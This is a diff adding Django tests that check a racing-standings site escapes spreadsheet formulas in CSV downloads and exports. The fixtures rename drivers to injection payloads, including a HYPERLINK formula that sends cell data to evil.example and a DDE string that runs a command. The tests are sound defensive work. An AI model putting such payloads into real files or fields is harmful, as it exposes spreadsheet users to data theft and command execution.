@@ -219,3 +219,47 @@ def test_an_admin_edit_of_a_result_shows_at_once(
     andreas = re.search(r">Andreas Bäckman</a></th>(.*?)</tr>", html, re.S).group(1)
     # His only point was 15th in round 2 R1; disqualified, he has none.
     assert re.findall(r'<td class="num total">(\d+)', andreas) == ["0"]
+
+
+HOSTILE_NAMES = {
+    "Luca Engstler": '=HYPERLINK("http://evil.example/?"&A1,"Luca")',
+    "Gilles Magnus": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "Jessica Bäckman": "-2+3",
+    "Bence Boldizs": "+1",
+}
+
+
+@pytest.fixture
+def hostile_names(season_2021):
+    from drivers.models import Driver
+
+    for name, hostile in HOSTILE_NAMES.items():
+        driver = Driver.objects.get(name=name)
+        driver.name = hostile
+        driver.save()
+    return season_2021
+
+
+def test_csv_download_cannot_start_a_formula(hostile_names, client):
+    response = client.get("/en/standings/2021/junior.csv?round=1")
+
+    assert response.content.decode() == (
+        "position,name,points\n"
+        '1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Luca"")",55\n'
+        "2,'@SUM(1+1)*cmd|' /C calc'!A0,53\n"
+        "3,'-2+3,29\n"
+        "4,'+1,16\n"
+    )
+
+
+def test_exported_standings_cannot_start_a_formula(hostile_names, capsys):
+    from django.core.management import call_command
+
+    call_command("export_standings", "2021", "junior", "--after-round", "1")
+
+    assert capsys.readouterr().out.splitlines()[1:] == [
+        '1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Luca"")",55',
+        "2,'@SUM(1+1)*cmd|' /C calc'!A0,53",
+        "3,'-2+3,29",
+        "4,'+1,16",
+    ]
